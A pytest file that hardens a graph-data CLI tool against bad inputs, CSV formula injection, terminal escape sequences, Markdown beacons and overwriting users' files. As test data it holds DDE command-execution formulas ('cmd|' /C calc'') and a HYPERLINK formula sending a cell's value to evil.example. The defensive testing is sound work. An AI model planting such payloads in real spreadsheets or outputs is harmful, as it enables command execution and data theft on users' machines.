"""The hardening corpus: bad inputs, injected formulas and escapes, overwrites, partial outputs.

Loader cases live as small fixture folders in ``tests/unit/bad_inputs/<case>/`` (an ``EXPECT``
file holds the category and the words the one-line error must contain); large or special cases
(deep JSON, FIFOs, devices, oversized files) are built here.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import xml.dom.minidom
from pathlib import Path

import networkx as nx
import pytest
from typer.testing import CliRunner

import aieco
from aieco.cli import app
from aieco.errors import ExportError
from aieco.graph.io import export_graph
from aieco.graph.text import FORMULA_TRIGGERS, from_spreadsheet, spreadsheet_safe
from tests.unit.clicheck import one_line_failure

runner = CliRunner()
CORPUS = Path(__file__).parent / "bad_inputs"
CASES = sorted(p.name for p in CORPUS.iterdir() if p.is_dir())
SOURCE = "id,title,url\ns1,A source,https://example.org/a\n"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
]


@pytest.mark.parametrize("case", CASES)
def test_bad_input_is_one_line_naming_file_row_and_field(case: str) -> None:
    _, expected = (CORPUS / case / "EXPECT").read_text(encoding="utf-8").splitlines()[:2]
    line = one_line_failure(runner.invoke(app, ["load", str(CORPUS / case)]))
    assert expected in line


def test_the_corpus_covers_every_category() -> None:
    categories = {(CORPUS / c / "EXPECT").read_text(encoding="utf-8").split()[0] for c in CASES}
    assert categories == {"csv", "values", "text", "json", "references"}
    assert len(CASES) >= 30


def test_deeply_nested_json(tmp_path: Path) -> None:
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    assert "nested too deeply" in one_line_failure(runner.invoke(app, ["load", str(deep)]))


def test_a_fifo_in_a_data_folder_does_not_block(tmp_path: Path) -> None:
    (tmp_path / "sources.csv").write_text(SOURCE, encoding="utf-8")
    os.mkfifo(tmp_path / "entities.csv")
    line = one_line_failure(runner.invoke(app, ["load", str(tmp_path)]))
    assert "entities.csv: not a regular file" in line


def test_a_device_is_not_read(tmp_path: Path) -> None:
    assert "not a regular file" in one_line_failure(runner.invoke(app, ["load", "/dev/zero"]))


def test_files_over_the_size_limit_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    big = tmp_path / "big.csv"
    big.write_text("id,type,name_en,source\n" + "a,City,A,s1\n" * 1000, encoding="utf-8")
    monkeypatch.setenv("AIECO_MAX_FILE_BYTES", "1000")
    assert "over the limit of 1,000" in one_line_failure(runner.invoke(app, ["load", str(big)]))


def test_a_field_longer_than_csvs_limit_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "s.csv").write_text(SOURCE, encoding="utf-8")
    (tmp_path / "e.csv").write_text(
        f'id,type,name_en,source,quote\na,City,A,s1,"{"x" * 200_000}"\n', encoding="utf-8"
    )
    assert "malformed CSV" in one_line_failure(runner.invoke(app, ["load", str(tmp_path)]))


# ---- CSV formula injection ----------------------------------------------------------
@pytest.mark.parametrize("cell", [*FORMULAS, "-122.4", "Hefei", "", "'quoted"])
def test_spreadsheet_guard_round_trips(cell: str) -> None:
    guarded = spreadsheet_safe(cell)
    assert from_spreadsheet(guarded) == cell
    if guarded != cell:
        assert guarded.startswith("'")
    else:
        assert not cell or cell[0] not in FORMULA_TRIGGERS or float(cell) == float(cell)


def _formula_tables(tmp_path: Path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "sources.csv").write_text(SOURCE, encoding="utf-8")
    with (folder / "entities.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(["id", "type", "name_en", "description", "source"])
        writer.writerow(["hub", "City", "Hub", "a city", "s1"])
        for i, formula in enumerate(FORMULAS[:-1]):  # the last one is already guarded
            writer.writerow([f"c{i}", "Company", formula, formula, "s1"])
    with (folder / "relations.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(["from", "type", "to", "source"])
        for i in range(len(FORMULAS) - 1):
            writer.writerow([f"c{i}", "HEADQUARTERED_IN", "hub", "s1"])
    return folder


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_no_csv_aieco_writes_starts_a_formula(tmp_path: Path) -> None:
    data = _formula_tables(tmp_path)
    out = tmp_path / "out"
    assert runner.invoke(app, ["export", "-f", "csv", "-o", str(out), "-d", str(data)]).exit_code == 0
    assert (
        runner.invoke(app, ["report", "centrality", "-o", str(tmp_path / "r"), "-d", str(data)]).exit_code
        == 0
    )
    query = runner.invoke(app, ["query", "run", "top_by_degree", "-f", "csv", "-d", str(data)])
    assert query.exit_code == 0
    files = [*out.glob("*.csv"), *(tmp_path / "r").glob("*.csv")]
    cells = [c for f in files for c in _cells(f)] + [
        c for row in csv.reader(io.StringIO(query.stdout)) for c in row
    ]
    dangerous = [c for c in cells if c and c[0] in FORMULA_TRIGGERS and spreadsheet_safe(c) != c]
    assert dangerous == []
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    # aieco reads its own export back to the same names
    again = aieco.graph_from_files([out])
    assert {again.G.nodes[f"c{i}"]["name_en"] for i in range(len(FORMULAS) - 1)} == set(FORMULAS[:-1])


# ---- terminal escapes ----------------------------------------------------------------
@pytest.mark.parametrize("text", ["\x1b[2J", "\x1b]0;pwned\x07", "ab\x08\x08cd"])
def test_control_characters_never_reach_the_terminal(text: str) -> None:
    for args in (["search", text], ["viz", "city", "--city", text, "--out", "/nonexistent-dir/x.html"]):
        result = runner.invoke(app, args)
        assert "\x1b" not in result.stderr + result.stdout
        assert "\x07" not in result.stderr + result.stdout
        assert "\x08" not in result.stderr + result.stdout


def test_tables_show_control_characters_visibly() -> None:
    import pandas as pd

    from aieco.cli.output import frame_table, stdout_console

    console = stdout_console()
    with console.capture() as captured:
        console.print(frame_table(pd.DataFrame({"name": ["evil\x1b[2Jname\x07"]})))
    assert "\x1b[2J" not in captured.get()
    assert "\\x1b[2Jname\\x07" in captured.get()


# ---- exports that readers can read --------------------------------------------------
def test_json_export_refuses_non_finite_values(tmp_path: Path) -> None:
    eg = aieco.graph_from_bundled()
    eg.G.nodes["hefei"]["lat"] = float("nan")
    with pytest.raises(ExportError, match="NaN or infinite"):
        export_graph(eg, tmp_path / "x.json", fmt="json")
    assert list(tmp_path.iterdir()) == []


def test_graphml_with_control_characters_is_valid_xml(tmp_path: Path) -> None:
    eg = aieco.graph_from_bundled()
    eg.G.nodes["hefei"]["name_en"] = "He\x00fei\x1b[2J"
    (path,) = export_graph(eg, tmp_path / "x.graphml", fmt="graphml")
    xml.dom.minidom.parse(str(path))  # an independent XML parser
    back = nx.read_graphml(path)
    assert back.nodes["hefei"]["name_en"] == "He\\x00fei\\x1b[2J"


def test_csv_export_quotes_line_breaks(tmp_path: Path) -> None:
    eg = aieco.graph_from_bundled()
    eg.G.nodes["hefei"]["description"] = "line one\rline two"
    eg.G.nodes["anhui"]["description"] = "line one\r\nline two\nline three"
    export_graph(eg, tmp_path / "t", fmt="csv")
    rows = list(csv.DictReader((tmp_path / "t" / "entities.csv").open(encoding="utf-8", newline="")))
    assert len(rows) == eg.number_of_entities()
    by_id = {r["id"]: r["description"] for r in rows}
    assert by_id["hefei"] == "line one\nline two"  # line ends are stored as LF, as loading does
    assert by_id["anhui"] == "line one\nline two\nline three"


# ---- never overwrite a user's file --------------------------------------------------
@pytest.mark.slow
def test_demo_into_a_folder_with_the_users_files(tmp_path: Path) -> None:
    mine = {"index.html": "my page", "overview.html": "my notes", "report/report.html": "my report"}
    for name, text in mine.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text, encoding="utf-8")
    line = one_line_failure(runner.invoke(app, ["demo", "--out", str(tmp_path), "--no-report"]))
    assert "aieco did not write it" in line
    assert {name: (tmp_path / name).read_text(encoding="utf-8") for name in mine} == mine
    assert not (tmp_path / "geo.html").exists()  # nothing at all was written


def test_export_does_not_replace_a_users_file(tmp_path: Path) -> None:
    thesis = tmp_path / "thesis.txt"
    thesis.write_text("three years of work", encoding="utf-8")
    one_line_failure(runner.invoke(app, ["export", "-f", "json", "-o", str(thesis)]))
    assert thesis.read_text(encoding="utf-8") == "three years of work"
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "sources.csv").write_text("mine", encoding="utf-8")
    one_line_failure(runner.invoke(app, ["export", "-f", "csv", "-o", str(tmp_path / "d")]))
    assert (tmp_path / "d" / "sources.csv").read_text(encoding="utf-8") == "mine"
    assert sorted(p.name for p in (tmp_path / "d").iterdir()) == ["sources.csv"]
    assert runner.invoke(app, ["export", "-f", "json", "-o", str(thesis), "--force"]).exit_code == 0
    assert json.loads(thesis.read_text(encoding="utf-8"))["nodes"]


def test_aieco_replaces_its_own_outputs_but_not_edited_ones(tmp_path: Path) -> None:
    page = tmp_path / "v.html"
    assert runner.invoke(app, ["viz", "plans", "-o", str(page)]).exit_code == 0
    assert runner.invoke(app, ["viz", "plans", "-o", str(page)]).exit_code == 0  # its own, unchanged
    page.write_text(page.read_text(encoding="utf-8") + "<!-- my edit -->", encoding="utf-8")
    assert "changed since" in one_line_failure(runner.invoke(app, ["viz", "plans", "-o", str(page)]))
    assert page.read_text(encoding="utf-8").endswith("<!-- my edit -->")


def test_report_md_keeps_markdown_in_data_as_text(tmp_path: Path) -> None:
    # a name that Markdown would render as a remote image (a tracking beacon) or a link (phishing)
    beacon, phish = "![x](http://evil.example/beacon.png)", "[Official site](http://evil.example/phish)"
    data = tmp_path / "data"
    data.mkdir()
    (data / "sources.csv").write_text(SOURCE, encoding="utf-8")
    (data / "entities.csv").write_text(
        f'id,type,name_en,source\na,City,"{beacon}",s1\nb,Region,"{phish} <img src=x>",s1\n', encoding="utf-8"
    )
    (data / "relations.csv").write_text("from,type,to,source\na,LOCATED_IN,b,s1\n", encoding="utf-8")
    result = runner.invoke(app, ["report", "centrality", "-d", str(data), "-o", str(tmp_path / "r")])
    assert result.exit_code == 0, result.stderr
    md = (tmp_path / "r" / "report.md").read_text(encoding="utf-8")
    import markdown_it

    html = markdown_it.MarkdownIt().enable("table").render(md)
    assert "evil.example/beacon.png" in md  # the name is there, as text
    assert 'evil.example/beacon.png"' not in html  # no image fetched from it
    assert "<img src=x" not in html
    assert 'href="http://evil.example' not in html
    assert all(src.startswith("top_") for src in re.findall(r'<img src="([^"]+)"', html))


# ---- nothing half-written ----------------------------------------------------------
def test_demo_on_data_without_hefei_writes_nothing(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "sources.csv").write_text(SOURCE, encoding="utf-8")
    (data / "entities.csv").write_text("id,type,name_en,source\nx,City,X,s1\n", encoding="utf-8")
    out = tmp_path / "site"
    line = one_line_failure(runner.invoke(app, ["demo", "--data", str(data), "--out", str(out)]))
    assert "hefei" in line
    assert not out.exists()


def test_a_view_into_an_existing_folder_leaves_no_temporary_file(tmp_path: Path) -> None:
    (tmp_path / "existing").mkdir()
    one_line_failure(runner.invoke(app, ["viz", "overview", "-o", str(tmp_path / "existing")]))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["existing"]
    assert list((tmp_path / "existing").iterdir()) == []


# ---- small graphs, versions, stopped servers ---------------------------------------
def test_report_on_a_two_entity_graph(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "sources.csv").write_text(SOURCE, encoding="utf-8")
    (data / "entities.csv").write_text(
        "id,type,name_en,source\na,City,A,s1\nb,Region,B,s1\n", encoding="utf-8"
    )
    (data / "relations.csv").write_text("from,type,to,source\na,LOCATED_IN,b,s1\n", encoding="utf-8")
    result = runner.invoke(app, ["report", "centrality", "-d", str(data), "-o", str(tmp_path / "r")])
    assert result.exit_code == 0, result.stderr
    eig = list(csv.DictReader((tmp_path / "r" / "top_eigenvector.csv").open(encoding="utf-8")))
    assert [round(float(r["eigenvector"]), 6) for r in eig] == [0.707107, 0.707107]  # 1/√2 each, by hand


def test_a_stopped_local_instance_is_not_running_not_passwordless(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AIECO_CACHE_DIR", str(tmp_path))
    monkeypatch.delenv("NEO4J_PASSWORD", raising=False)
    monkeypatch.delenv("NEO4J_URI", raising=False)
    instance = tmp_path / "instances" / "default"
    instance.mkdir(parents=True)
    (instance / "credentials.json").write_text('{"user": "neo4j", "password": "p"}', encoding="utf-8")
    line = one_line_failure(runner.invoke(app, ["neo4j", "cypher", "RETURN 1"]))
    assert "is not running" in line
    assert runner.invoke(app, ["neo4j", "cypher", "RETURN 1"]).exit_code == 3


# ---- whole-or-absent multi-file outputs (faults with real signals: tests/integration) ------------
@pytest.mark.seconds
def test_a_pull_failing_at_its_last_file_leaves_the_previous_pull_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno

    import aieco.loaders.pull as pull_module
    from tests.openalex_fixture import write_snapshot

    root = write_snapshot(tmp_path)
    out = tmp_path / "out"
    assert runner.invoke(app, ["openalex", "snapshot", str(root), "--out", str(out)]).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    real = pull_module.write_text

    def full_disk(path: Path, text: str, *, force: bool = False) -> Path:
        if Path(path).name == "dropped.tsv":
            raise aieco.errors.ExportError(f"cannot write {path}: {os.strerror(errno.ENOSPC)}")
        return real(path, text, force=force)

    monkeypatch.setattr(pull_module, "write_text", full_disk)
    result = runner.invoke(app, ["openalex", "snapshot", str(root), "--out", str(out), "--level", "Country"])
    assert "No space left on device" in one_line_failure(result)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
